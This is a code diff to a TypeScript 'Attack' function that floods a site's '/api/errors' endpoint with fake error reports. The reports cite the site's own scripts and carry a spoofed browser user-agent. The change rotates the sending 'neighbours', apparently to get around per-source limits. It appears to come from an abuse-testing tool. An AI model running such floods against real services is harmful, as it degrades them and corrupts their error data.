@@ -75,8 +75,9 @@ export const maps: Attack = async ({ url, signal }) => {
   const shown = scriptsIn(await read('/'))
   const lists = await Promise.all(shown.filter((path) => path.includes('manifest')).map(read))
   const scripts = [...new Set([...shown, ...lists.flatMap(scriptsIn)])]
+  const from = neighbours(url)
   let turn = 0
-  await flood(signal, 20, async () => {
+  await flood(signal, 20, async (report) => {
     const errors = Array.from({ length: 10 }, () => ({
       message: 'x is not a function',
       file: scripts[turn++ % scripts.length],
@@ -85,6 +86,6 @@ export const maps: Attack = async ({ url, signal }) => {
       path: '/',
     }))
     const headers = { 'user-agent': 'Mozilla/5.0 Firefox/144.0' }
-    await new Neighbour(url).throw('/api/errors', { body: { errors }, headers })
+    await from[report % from.length]?.throw('/api/errors', { body: { errors }, headers })
   })
 }
